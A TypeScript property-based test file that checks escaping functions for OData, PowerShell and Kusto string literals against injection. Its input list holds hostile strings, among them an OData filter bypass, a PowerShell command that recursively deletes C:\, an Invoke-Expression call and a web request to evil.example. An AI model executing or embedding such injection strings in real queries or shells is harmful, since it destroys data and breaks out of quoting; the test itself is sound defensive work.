import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { kustoText, odataText, powershellText } from '../../src/report/quote.ts'

const hostile = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.constantFrom(
    "' or 1 eq 1 or 'a' eq '",
    "'; Remove-Item -Recurse C:\\ #",
    "’; Invoke-Expression 'x'",
    '$(Invoke-WebRequest evil.example)',
    '" | take 1 | extend x = "',
    '\\" or true //',
    'a\nb\r\nc',
    '`r`n$env:PATH',
    '\u2028DROP',
  ),
)

/** What each language takes a literal for, read sign by sign; null if it ends before the text does. */
function readBack(literal: string, marks: string, way: 'double' | 'backslash'): string | null {
  const isMark = (sign: string | undefined) => sign !== undefined && marks.includes(sign)
  if (!isMark(literal[0])) return null
  let text = ''
  for (let at = 1; at < literal.length; at += 1) {
    const sign = literal[at] ?? ''
    if (way === 'backslash' && sign === '\\') {
      at += 1
      text += literal[at] ?? ''
    } else if (isMark(sign)) {
      if (way === 'double' && isMark(literal[at + 1])) {
        text += sign
        at += 1
      } else return at === literal.length - 1 ? text : null
    } else text += sign
  }
  return null
}

describe('whatever a text holds, its literal', () => {
  it.each([
    ['OData', odataText, "'", 'double'],
    ['PowerShell', powershellText, "'‘’‚‛", 'double'],
    ['Kusto', kustoText, '"', 'backslash'],
  ] as const)('ends where the text does in %s', (_, quote, marks, way) => {
    fc.assert(
      fc.property(hostile, (text) => {
        const literal = quote(text)
        expect(literal).not.toMatch(/[\n\r\u2028\u2029]/)
        expect(readBack(literal, marks, way)).not.toBe(null)
      }),
      { numRuns: 2000 },
    )
  })

  it('means the text itself', () => {
    expect(readBack(odataText("o'neil"), "'", 'double')).toBe("o'neil")
    expect(readBack(powershellText('$x ’y'), "'‘’‚‛", 'double')).toBe('$x ’y')
    expect(readBack(kustoText('a\\"b'), '"', 'backslash')).toBe('a\\"b')
  })
})
